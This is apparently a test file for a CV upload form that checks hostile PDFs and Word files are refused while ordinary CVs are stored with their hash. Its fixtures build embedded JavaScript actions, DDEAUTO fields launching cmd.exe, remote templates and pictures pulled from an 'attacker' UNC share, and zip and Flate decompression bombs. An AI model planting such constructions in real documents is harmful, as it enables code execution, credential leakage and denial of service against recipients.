/**
 * Issue 41 items 2 and 3: every file of observation 2 (each accepted with 201 before) is refused with a field code
 * that the site shows in three languages; ordinary CVs still go through; the file is kept in the file store with
 * its hash; a 5 MB upload does not hold up other requests.
 */
import { deflateSync } from 'node:zlib';
import { randomBytes } from 'node:crypto';
import { Zip, ZipDeflate, strToU8 } from 'fflate';
import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';
import { describe, expect, it } from 'vitest';
import { sql } from 'kysely';
import { migrate } from '../src/db/migrations.ts';
import { checkCv } from '../src/lib/cv.ts';
import { DOCUMENT_XML, countRows, docBytes, expectError, json, multipart, storedFile, useApi, zipBytes } from './helpers.ts';

const api = useApi();

async function openVacancy(): Promise<string> {
  return json(await api.app.inject({ url: '/api/vacancies?status=open&pageSize=1' })).items[0].slug as string;
}
let sender = 0;
async function upload(filename: string, content: Buffer) {
  const mp = multipart(
    {
      first_name: 'Ali',
      last_name: 'Valiyev',
      birthday: '1990-01-01',
      phone_number: '901234567',
      email: 'a@b.uz',
      position: await openVacancy(),
    },
    { name: 'cv', filename, content },
  );
  return api.app.inject({ method: 'POST', url: '/api/forms/vacancy-application', ...mp, remoteAddress: `10.41.0.${++sender}` });
}

// ------------------------------------------------------------------ the files of observation 2, made here

/** A PDF with objects written as given and a cross-reference table that points nowhere useful (readers cope). */
function rawPdf(...objects: (string | Buffer)[]): Buffer {
  return Buffer.concat([
    Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n'),
    ...objects.map((o) => (typeof o === 'string' ? Buffer.from(`${o}\n`) : o)),
    Buffer.from('trailer << /Root 1 0 R >>\n%%EOF\n'),
  ]);
}
/** An object stream holding one object, written with the given filter. */
function objectStream(num: number, objectText: string, filter: 'ASCIIHexDecode' | 'FlateDecode'): Buffer {
  const header = `${num + 1} 0 `;
  const body = Buffer.from(header + objectText);
  const encoded = filter === 'ASCIIHexDecode' ? Buffer.from(`${body.toString('hex')}>`) : deflateSync(body);
  return Buffer.concat([
    Buffer.from(`${num} 0 obj << /Type /ObjStm /N 1 /First ${header.length} /Filter /${filter} /Length ${encoded.length} >>\nstream\n`),
    encoded,
    Buffer.from('\nendstream\nendobj\n'),
  ]);
}
const nulJavaScript = () => rawPdf(Buffer.from('3 0 obj << /Type /Action /S /JavaScript\0/JS (app.alert(1)) >> endobj\n', 'latin1'));
const hexObjectStream = () => rawPdf(objectStream(3, '<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>', 'ASCIIHexDecode'));
const goToR = () =>
  Buffer.from(
    '%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\cv.pdf) /D [0 /Fit] >> >> endobj\n' +
      '2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n',
  );
/** 40 streams of 100 MB of zeros each (about 100 KB each compressed). */
function flateBomb(): Buffer {
  const zeros = deflateSync(Buffer.alloc(100 * 1024 * 1024), { level: 9 });
  const streams = Array.from({ length: 40 }, (_, i) =>
    Buffer.concat([
      Buffer.from(`${i + 3} 0 obj << /Length ${zeros.length} /Filter /FlateDecode >>\nstream\n`),
      zeros,
      Buffer.from('\nendstream\nendobj\n'),
    ]),
  );
  return rawPdf(...streams);
}

const CONTENT_TYPES =
  '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
const docx = (parts: Record<string, string | Uint8Array> = {}) =>
  zipBytes(['[Content_Types].xml', 'word/document.xml', ...Object.keys(parts)], { '[Content_Types].xml': CONTENT_TYPES, ...parts });
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const rels = (...items: string[]) =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${items.join('')}</Relationships>`;
const remoteTemplatePadded = () =>
  docx({
    'word/_rels/settings.xml.rels': rels(
      `<!-- ${'x'.repeat(1_100_000)} -->`,
      `<Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="file://attacker/share/t.dotm" TargetMode="External"/>`,
    ),
  });
const fieldRuns = (...instr: string[]) =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${instr.map((i) => `<w:r><w:instrText xml:space="preserve">${i}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`;
const ddeAuto = () =>
  docx({ 'word/document.xml': DOCUMENT_XML('CV', fieldRuns(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ')) });
const ddeAutoSplit = () => docx({ 'word/document.xml': DOCUMENT_XML('CV', fieldRuns(' DD', 'E&#x41;UTO c:\\\\x.exe ')) });
const includePictureInFooter = () =>
  docx({
    'word/footer1.xml': `<w:ftr xmlns:w="x"><w:p><w:fldSimple w:instr=' INCLUDEPICTURE "\\\\attacker\\share\\p.png" \\d '/></w:p></w:ftr>`,
  });
/** A part that unpacks to 200 MB of zeros, made as a stream (a few hundred KB compressed). */
function hugePartDocx(): Promise<Buffer> {
  return new Promise((resolve, reject) => {
    const chunks: Uint8Array[] = [];
    const zip = new Zip((err, chunk, final) => {
      if (err) return reject(err);
      chunks.push(chunk);
      if (final) resolve(Buffer.concat(chunks));
    });
    for (const [name, text] of [
      ['[Content_Types].xml', CONTENT_TYPES],
      ['word/document.xml', DOCUMENT_XML('CV')],
    ] as const) {
      const part = new ZipDeflate(name);
      zip.add(part);
      part.push(strToU8(text), true);
    }
    const big = new ZipDeflate('word/media/image1.png', { level: 1 });
    zip.add(big);
    const mb = new Uint8Array(1024 * 1024);
    for (let i = 0; i < 200; i++) big.push(mb, i === 199);
    zip.end();
  });
}

// ------------------------------------------------------------------ ordinary CVs

async function goodPdf(): Promise<Buffer> {
  const doc = await PDFDocument.create();
  const page = doc.addPage();
  page.drawText('Ali Valiyev — CV', { font: await doc.embedFont(StandardFonts.Helvetica), x: 50, y: 700 });
  // A link to a portfolio: an ordinary URI action.
  const link = doc.context.obj({
    Type: 'Annot',
    Subtype: 'Link',
    Rect: [50, 690, 200, 710],
    A: { Type: 'Action', S: 'URI', URI: PDFString.of('https://example.uz/ali') },
  });
  page.node.set(PDFName.of('Annots'), doc.context.obj([doc.context.register(link)]));
  return Buffer.from(await doc.save({ useObjectStreams: true }));
}
const goodDocx = () =>
  docx({
    'word/document.xml': DOCUMENT_XML('Ali Valiyev', fieldRuns(' PAGE ')),
    'word/_rels/document.xml.rels': rels(
      `<Relationship Id="rId9" Type="${REL}/hyperlink" Target="https://example.uz/ali" TargetMode="External"/>`,
    ),
  });

describe('CV uploads are read by real parsers', () => {
  it('refuses each file of observation 2, and the others like them; nothing is stored', { timeout: 60_000 }, async () => {
    const before = await countRows(api, 'vacancy_applications');
    const cases: [string, Buffer | Promise<Buffer>, 'file_active' | 'file_unreadable'][] = [
      ['JavaScript followed by NUL.pdf', nulJavaScript(), 'file_active'],
      ['action in an ASCIIHex object stream.pdf', hexObjectStream(), 'file_active'],
      ['OpenAction GoToR to a share.pdf', goToR(), 'file_active'],
      ['remote template past 1 MB.docx', remoteTemplatePadded(), 'file_active'],
      ['DDEAUTO field.docx', ddeAuto(), 'file_active'],
      ['DDEAUTO split over runs.docx', ddeAutoSplit(), 'file_active'],
      ['INCLUDEPICTURE in a footer.docx', includePictureInFooter(), 'file_active'],
      ['200 MB part.docx', hugePartDocx(), 'file_unreadable'],
      ['40 x 100 MB Flate streams.pdf', flateBomb(), 'file_unreadable'],
      ['Word 97 with a DDE field.doc', docBytes({ WordDocument: '\x13 DDEAUTO c:\\x.exe \x14\x15' }), 'file_active'],
    ];
    for (const [name, content, code] of cases) {
      const bytes = await content;
      expect(bytes.length, name).toBeLessThanOrEqual(5 * 1024 * 1024);
      const started = Date.now();
      const res = await upload(name, bytes);
      expect(expectError(res, 422, 'validation_failed').fields, name).toEqual({ cv: code });
      // Refused quickly: the bombs are stopped at the limit, not unpacked whole.
      expect(Date.now() - started, name).toBeLessThan(8_000);
    }
    expect(await countRows(api, 'vacancy_applications')).toBe(before);
  });

  it('accepts an ordinary PDF and DOCX (with a hyperlink and a page-number field) and keeps them in the file store with their hash', async () => {
    for (const [name, content, type] of [
      ['cv.pdf', await goodPdf(), 'pdf'],
      ['cv.docx', goodDocx(), 'docx'],
      ['cv.doc', docBytes(), 'doc'],
    ] as const) {
      expect(await checkCv(content), name).toEqual({ ok: true, type });
      const res = await upload(name, content);
      expect(res.statusCode, res.body).toBe(201);
      const row = await api.database.db
        .selectFrom('vacancy_applications')
        .selectAll()
        .where('id', '=', json(res).id)
        .executeTakeFirstOrThrow();
      expect(row.cv_key).toMatch(/^cv\/[0-9a-f-]{36}$/);
      expect((await storedFile(api, row.cv_key)).equals(content)).toBe(true);
      expect(row).toMatchObject({ cv_type: type, cv_size: content.length });
      expect(row.cv_sha256).toBe((await import('node:crypto')).createHash('sha256').update(content).digest('hex'));
    }
  });

  it('a 5 MB upload holds up other requests by less than 250 ms', { timeout: 60_000 }, async () => {
    const address = await api.app.listen({ port: 0, host: '127.0.0.1' });
    // A scanned CV: one large picture stream (random bytes, as compressed image data looks).
    const size = 5 * 1024 * 1024 - 400;
    const pdf = rawPdf(
      Buffer.concat([
        Buffer.from(`3 0 obj << /Length ${size} /Filter /DCTDecode >>\nstream\n`),
        randomBytes(size),
        Buffer.from('\nendstream\nendobj\n'),
      ]),
    );
    expect(pdf.length).toBeLessThanOrEqual(5 * 1024 * 1024);
    const mp = multipart(
      {
        first_name: 'Ali',
        last_name: 'Valiyev',
        birthday: '1990-01-01',
        phone_number: '901234567',
        email: 'a@b.uz',
        position: await openVacancy(),
      },
      { name: 'cv', filename: 'big.pdf', content: pdf },
    );
    // Warm: the first health answer and the first check start things up.
    await fetch(`${address}/api/health`);
    await api.app.inject({
      method: 'POST',
      url: '/api/forms/vacancy-application',
      ...multipart({}, { name: 'cv', filename: 'x.pdf', content: rawPdf() }),
    });
    const idle: number[] = [];
    for (let i = 0; i < 20; i++) {
      const started = performance.now();
      await fetch(`${address}/api/health`);
      idle.push(performance.now() - started);
    }
    const state = { done: false };
    const delays: number[] = [];
    const probe = (async () => {
      while (!state.done) {
        const started = performance.now();
        await fetch(`${address}/api/health`);
        delays.push(performance.now() - started);
        await new Promise((r) => setTimeout(r, 10));
      }
    })();
    const res = await fetch(`${address}/api/forms/vacancy-application`, { method: 'POST', body: mp.payload, headers: mp.headers });
    state.done = true;
    await probe;
    expect(res.status, await res.text()).toBe(201);
    const worst = Math.max(...delays);
    console.info(
      `5 MB upload: ${delays.length} health probes, worst ${worst.toFixed(0)} ms (idle: worst ${Math.max(...idle).toFixed(0)} ms)`,
    );
    expect(worst).toBeLessThan(250);
  });

  it('the migration moves CVs kept in the database to the file store and drops their bytes', async () => {
    const res = await upload('old.pdf', await goodPdf());
    expect(res.statusCode).toBe(201);
    const id = json(res).id as string;
    const db = api.database.db;
    const { cv_key: key } = await db.selectFrom('vacancy_applications').select('cv_key').where('id', '=', id).executeTakeFirstOrThrow();
    const bytes = await storedFile(api, key);
    // As the database was before migrations 10 and 11: the bytes in a column, no key, no file.
    for (const statement of [
      sql`DROP INDEX vacancy_applications_cv_key_idx`,
      sql`ALTER TABLE vacancy_applications ALTER COLUMN cv_key DROP NOT NULL`,
      sql`ALTER TABLE vacancy_applications ADD COLUMN cv_data bytea`,
      sql`UPDATE vacancy_applications SET cv_data = ${bytes}, cv_key = NULL WHERE id = ${id}`,
      sql`UPDATE vacancy_applications SET cv_data = ${Buffer.from('%PDF-1.4 other')}, cv_key = NULL WHERE id <> ${id}`,
      sql`DELETE FROM schema_migrations WHERE version IN (10, 11)`,
    ])
      await statement.execute(db);
    await api.files.delete(key);

    expect(await migrate(db, { files: api.files })).toEqual([10, 11]);
    const row = await db.selectFrom('vacancy_applications').select('cv_key').where('id', '=', id).executeTakeFirstOrThrow();
    expect(row.cv_key).toBe(`cv/${id}`);
    expect((await storedFile(api, row.cv_key)).equals(bytes)).toBe(true);
    const columns = await sql<{
      column_name: string;
    }>`SELECT column_name FROM information_schema.columns WHERE table_name = 'vacancy_applications'`.execute(db);
    expect(columns.rows.map((c) => c.column_name)).not.toContain('cv_data');
    expect(await db.selectFrom('vacancy_applications').select('id').where('cv_key', 'is', null).execute()).toEqual([]);
  });
});
